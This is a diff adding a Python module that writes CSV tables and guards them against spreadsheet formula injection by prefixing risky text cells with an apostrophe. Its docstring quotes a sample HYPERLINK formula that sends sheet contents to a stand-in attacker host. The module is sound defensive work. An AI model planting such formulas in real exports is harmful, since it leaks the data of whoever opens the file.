@@ -1,0 +1,43 @@
+"""CSV text for every table the project writes (evaluate's metrics, training metrics, bulk summaries).
+
+Cells are neutralised against formula injection: a spreadsheet runs a cell that starts with ``=``, ``+``,
+``-``, ``@``, a tab or a carriage return as a formula, so a class or file named
+``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would become a live link that leaks the sheet. Such a
+text cell gets a leading ``'`` (OWASP's advice), which spreadsheets show as text. Numbers stay numbers: a
+negative metric like ``-0.5`` is left as it is.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+from collections.abc import Iterable, Sequence
+from typing import Any
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: Any) -> Any:
+    """``value`` for a CSV cell: text that a spreadsheet would run as a formula gets a leading ``'``."""
+    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
+        return value
+    try:
+        number = float(value)
+    except ValueError:
+        return "'" + value
+    return value if math.isfinite(number) or value.strip().lstrip("+-").lower() in ("inf", "nan") else "'" + value
+
+
+def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
+    """A CSV document (``\\n`` line ends) of ``header`` and ``rows``, every cell through :func:`safe_cell`."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow([safe_cell(v) for v in header])
+    writer.writerows([safe_cell(v) for v in row] for row in rows)
+    return buffer.getvalue()
+
+
+def dict_csv_text(columns: Sequence[str], rows: Iterable[dict[str, Any]]) -> str:
+    """:func:`csv_text` of mappings: one column per key of ``columns`` (missing keys give empty cells)."""
+    return csv_text(columns, ([row.get(k, "") for k in columns] for row in rows))
